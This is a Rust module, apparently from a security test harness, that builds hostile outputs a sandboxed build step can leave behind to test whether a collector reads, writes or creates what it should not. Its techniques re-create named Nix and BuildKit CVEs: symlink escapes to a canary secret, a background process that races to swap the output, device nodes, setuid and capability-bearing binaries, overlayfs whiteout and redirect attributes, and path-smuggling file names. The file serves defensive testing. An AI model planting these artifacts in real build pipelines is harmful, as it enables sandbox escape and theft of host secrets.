//! What a hostile step leaves to be collected: each is a way by which a collector reads, writes or makes
//! what it should not. The side inside; [`crate::collect`] is the other.

use std::{
    ffi::{CString, OsStr},
    fs::{self, File},
    io,
    os::unix::{
        ffi::OsStrExt as _,
        fs::{PermissionsExt as _, symlink},
        net::UnixListener,
    },
    thread,
    time::{Duration, Instant},
};

use rustix::fs::{CWD, FileType, Mode, makedev, mknodat};

use crate::raw::{self, Arg};

/// Where it is left; the named output is `result` in there.
pub const OUT: &str = "/out";
const RESULT: &str = "/out/result";
const CANARY: &str = "/canary/secret";
/// How long a process stays to swap files under whoever collects.
const SWAP: Duration = Duration::from_secs(2);

/// One thing that is left.
pub struct Leaving {
    /// Its name.
    pub id: &'static str,
    /// What it re-creates.
    pub source: &'static str,
    /// What it is, for people.
    pub what: &'static str,
    make: fn() -> io::Result<()>,
}

#[rustfmt::skip]
const fn leaving(id: &'static str, source: &'static str, what: &'static str, make: fn() -> io::Result<()>) -> Leaving {
    Leaving { id, source, what, make }
}

/// All of them.
#[rustfmt::skip]
pub const LEAVINGS: &[Leaving] = &[
    leaving("output.link", "Nix CVE-2026-39860", "the output is a link to the canary", || symlink(CANARY, RESULT)),
    leaving("output.link-relative", "Nix CVE-2026-39860 class", "the output is a link that climbs out by `..`", || {
        symlink("../../../../../../../../../../canary/secret", RESULT)
    }),
    leaving("output.link-above", "BuildKit CVE-2024-23652 class", "the output's directory is a link to the canary's", || {
        fs::remove_dir(OUT)?;
        symlink("/canary", OUT)?;
        symlink("secret", "/result-name")
    }),
    leaving("output.link-proc", "magic links of /proc", "the output is a link through the collector's own /proc", || {
        symlink("/proc/self/root/canary/secret", RESULT)
    }),
    leaving("output.swapped", "Nix CVE-2026-39860: a race at registration", "a process stays and swaps the output for a link", swapped),
    leaving("output.still-written", "Nix CVE-2024-27297", "a process stays and changes the output after it was hashed", still_written),
    leaving("output.disk", "device files in layers", "the output is a device file of a disk", || {
        device(FileType::BlockDevice, RESULT, 7, 0)
    }),
    leaving("output.device", "device files in layers", "the output is a device file that never ends", || {
        device(FileType::CharacterDevice, RESULT, 1, 5)
    }),
    leaving("output.pipe", "collectors that wait", "the output is a named pipe that nobody writes to", || {
        Ok(mknodat(CWD, RESULT, FileType::Fifo, Mode::from_raw_mode(0o666), 0)?)
    }),
    leaving("output.socket", "collectors that wait", "the output is a socket", || UnixListener::bind(RESULT).map(drop)),
    leaving("output.setuid", "set-user-id files in stores", "the output is a set-user-id program of root", || program(0o4755)),
    leaving("output.setgid", "set-group-id files in stores", "the output is a set-group-id program of root", || program(0o2755)),
    leaving("output.capable", "capabilities(7)", "the output is a program with rights of root", || {
        program(0o755)?;
        attribute(RESULT, "security.capability", &[1, 0, 0, 2, 0, 0, 32, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0])
    }),
    leaving("output.sparse", "sparse files of 8 EiB", "the output says that it is larger than any disk", || {
        File::create(RESULT)?.set_len((1 << 62) + 1)
    }),
    leaving("output.line-break", "lists of lines", "a name with a line break, whose second line is another path", || {
        let name = OsStr::from_bytes(b"result\n..\xe2\x80\xae");
        fs::write(std::path::Path::new(OUT).join(name), "x")
    }),
    leaving("output.bytes", "names that are no text", "a name of bytes that are no text", || {
        fs::write(std::path::Path::new(OUT).join(OsStr::from_bytes(b"\xff\xfe\x80")), "x")
    }),
    leaving("output.depth", "PATH_MAX", "directories deeper than any path", deep),
    leaving("output.whiteout", "overlayfs", "a whiteout for what the step did not delete", || {
        device(FileType::CharacterDevice, "/out/bin", 0, 0)
    }),
    leaving("output.whiteout-name", "OCI layers", "a name that an OCI layer reads as a whiteout", || {
        fs::write("/out/.wh.bin", "")?;
        fs::write("/out/.wh..wh..opq", "")
    }),
    leaving("output.opaque", "overlayfs", "an attribute that hides the layers below", || attribute(OUT, "trusted.overlay.opaque", b"y")),
    leaving("output.redirect", "overlayfs redirect_dir", "an attribute by which a directory is looked for elsewhere", || {
        attribute(OUT, "trusted.overlay.redirect", b"/canary")
    }),
    leaving("output.metacopy", "overlayfs metacopy", "an attribute by which contents are looked for elsewhere", || {
        fs::write(RESULT, "")?;
        attribute(RESULT, "trusted.overlay.metacopy", b"")
    }),
    leaving("output.redirect-user", "overlayfs userxattr", "the same by an attribute that anybody may set", || {
        attribute(OUT, "user.overlay.redirect", b"/canary")
    }),
    leaving("output.whiteout-attribute", "overlayfs since 6.7", "a whiteout that is an attribute of a plain file", || {
        fs::write(RESULT, "")?;
        attribute(RESULT, "user.overlay.whiteout", b"y")?;
        attribute(OUT, "user.overlay.opaque", b"x")
    }),
    leaving("output.access-list", "acl(5)", "an access list that lets a user of the host write", || {
        fs::write(RESULT, "x")?;
        // Version 2: owner rw, user 1000 rw, group r, mask rw, others none.
        let entries: [(u16, u16, u32); 5] = [(1, 6, u32::MAX), (2, 6, 1000), (4, 4, u32::MAX), (16, 6, u32::MAX), (32, 0, u32::MAX)];
        let mut value = 2_u32.to_le_bytes().to_vec();
        for (tag, may, id) in entries {
            value.extend_from_slice(&tag.to_le_bytes());
            value.extend_from_slice(&may.to_le_bytes());
            value.extend_from_slice(&id.to_le_bytes());
        }
        attribute(RESULT, "system.posix_acl_access", &value)
    }),
    leaving("output.immutable", "chattr(1)", "a file that nobody can remove", || flag(0x10)),
    leaving("output.append-only", "chattr(1)", "a file that can only grow", || flag(0x20)),
];

/// Leaves it.
///
/// # Errors
/// If the place did not allow it.
pub fn leave(id: &str) -> io::Result<()> {
    let leaving = LEAVINGS.iter().find(|leaving| leaving.id == id);
    let leaving = leaving.ok_or(io::ErrorKind::NotFound)?;
    fs::create_dir_all(OUT)?;
    (leaving.make)()
}

fn device(kind: FileType, path: &str, major: u32, minor: u32) -> io::Result<()> {
    Ok(mknodat(
        CWD,
        path,
        kind,
        Mode::from_raw_mode(0o666),
        makedev(major, minor),
    )?)
}

fn program(mode: u32) -> io::Result<()> {
    fs::copy("/proc/self/exe", RESULT).or_else(|_| fs::copy("/bin/attempts", RESULT))?;
    fs::set_permissions(RESULT, fs::Permissions::from_mode(mode))
}

fn attribute(path: &str, name: &str, value: &[u8]) -> io::Result<()> {
    let (path, name) = (CString::new(path)?, CString::new(name)?);
    let length = i64::try_from(value.len()).unwrap_or(0);
    let words = &mut [
        Arg::S(&path),
        Arg::S(&name),
        Arg::R(value),
        Arg::N(length),
        Arg::N(0),
    ];
    raw::call(libc::SYS_setxattr, words).map(|_| ())
}

/// `FS_IOC_SETFLAGS`.
fn flag(flag: u32) -> io::Result<()> {
    use std::os::fd::AsRawFd as _;
    fs::write(RESULT, "x")?;
    let file = File::open(RESULT)?;
    let fd = i64::from(file.as_raw_fd());
    raw::call(
        libc::SYS_ioctl,
        &mut [
            Arg::N(fd),
            Arg::N(0x4008_6602),
            Arg::R(&u64::from(flag).to_ne_bytes()),
        ],
    )
    .map(|_| ())
}

fn deep() -> io::Result<()> {
    std::env::set_current_dir(OUT)?;
    let name = "d".repeat(200);
    for _ in 0..40 {
        fs::create_dir(&name)?;
        std::env::set_current_dir(&name)?;
    }
    fs::write("end", "x")
}

/// Runs `what` in a process that stays behind.
fn stay(what: impl Fn(u64) -> io::Result<()>) -> io::Result<()> {
    if raw::fork()?.is_none() {
        let _ = rustix::process::setsid();
        // The driver waits for the end of the output, not of this.
        if let Ok(null) = File::options().write(true).open("/dev/null") {
            let _ = rustix::stdio::dup2_stdout(&null);
            let _ = rustix::stdio::dup2_stderr(&null);
        } else {
            let _ = raw::call(
                libc::SYS_close_range,
                &mut [Arg::N(1), Arg::N(2), Arg::N(0)],
            );
        }
        let began = Instant::now();
        let mut round = 0;
        while began.elapsed() < SWAP {
            let _ = what(round);
            round += 1;
            thread::yield_now();
        }
        raw::exit(0);
    }
    Ok(())
}

fn swapped() -> io::Result<()> {
    fs::write(RESULT, "harmless")?;
    symlink(CANARY, "/out/link")?;
    stay(|round| {
        let next = if round % 2 == 0 {
            "/out/link"
        } else {
            "/out/plain"
        };
        if round % 2 == 0 {
            let _ = fs::remove_file("/out/link");
            symlink(CANARY, "/out/link")?;
        } else {
            fs::write("/out/plain", "harmless")?;
        }
        fs::rename(next, RESULT)
    })
}

fn still_written() -> io::Result<()> {
    fs::write(RESULT, "0")?;
    stay(|round| fs::write(RESULT, format!("{round:020}")))
}
